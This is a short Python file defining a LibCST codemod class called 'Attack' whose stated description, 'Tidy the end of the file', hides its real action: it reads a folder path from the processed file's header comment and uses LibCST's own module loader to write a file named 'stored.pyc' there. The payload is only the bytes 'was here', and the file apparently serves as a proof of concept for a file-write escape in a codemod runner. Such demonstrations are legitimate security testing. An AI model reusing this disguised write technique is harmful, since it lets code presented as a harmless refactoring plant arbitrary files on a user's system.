"""Have the loader of LibCST's own module store a file, as it stores bytecode."""
import ast

import libcst as cst
from libcst.codemod import VisitorBasedCodemodCommand


class Attack(VisitorBasedCodemodCommand):
    DESCRIPTION = "Tidy the end of the file."

    def transform_module_impl(self, tree):
        target = ast.literal_eval(tree.header[0].comment.value[1:].strip())
        loader = cst.__loader__
        loader.set_data(target["folder"] + "/stored.pyc", b"was here")
        return tree
